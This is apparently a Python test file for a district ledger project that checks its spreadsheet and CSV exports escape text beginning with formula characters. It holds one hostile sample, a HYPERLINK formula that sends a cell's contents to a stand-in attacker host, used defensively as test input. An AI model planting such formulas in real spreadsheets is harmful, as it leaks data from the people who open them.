"""Text written to a spreadsheet is never a formula (issue 16, "encode for spreadsheet cells"): the 调度表, the
score sheets' workbook and the CLI's error report all go through `zdz_common.spreadsheet.cell_text`."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import openpyxl

from zdz_cli.ledger_files import write_error_report
from zdz_common.spreadsheet import cell_text
from zdz_common.vocabulary import UnitKind
from zdz_registry.ledger.adapters.report_files import to_csv, to_xlsx
from zdz_registry.ledger.domain.progress import AcceptanceState, ProgressReport, Standing, UnitRow, progress

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def test_text_that_a_spreadsheet_would_run_is_written_as_text() -> None:
    for text in ("=1+1", "+86 123", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert cell_text(text) == "'" + text
    assert cell_text("高笋塘街道") == "高笋塘街道" and cell_text(-3) == -3 and cell_text(None) is None


def _report() -> ProgressReport:
    standing = Standing(UnitKind.TOWN, True, 2027, date(2025, 3, 12), AcceptanceState.FILED)
    row = UnitRow(
        "t1",
        "高笋塘街道",
        UnitKind.TOWN,
        "500101001",
        True,
        2027,
        AcceptanceState.FILED,
        date(2025, 3, 12),
        False,
        None,
        None,
        HOSTILE,
    )
    summary = progress([standing], (35, 80), as_of=date(2026, 6, 30), name="万州区", code="wanzhou")
    return ProgressReport(summary, units=(row,))


def test_a_clerks_note_in_the_progress_report_is_text_in_xlsx_and_csv() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(_report()))).active
    notes = [row[-1] for row in sheet.iter_rows(values_only=True) if row and row[1] == "高笋塘街道"]
    assert notes == ["'" + HOSTILE]
    lines = list(csv.reader(io.StringIO(to_csv(_report()).decode("utf-8-sig"))))
    assert [line[-1] for line in lines if len(line) > 1 and line[1] == "高笋塘街道"] == ["'" + HOSTILE]


def test_the_clis_error_report_writes_a_hostile_reason_as_text(tmp_path: Path) -> None:
    path = tmp_path / "台账.errors.csv"
    write_error_report(path, [("源头排水户", 3, "名称", HOSTILE)])
    [_, line] = list(csv.reader(path.open(encoding="utf-8-sig")))
    assert line[-1] == "'" + HOSTILE
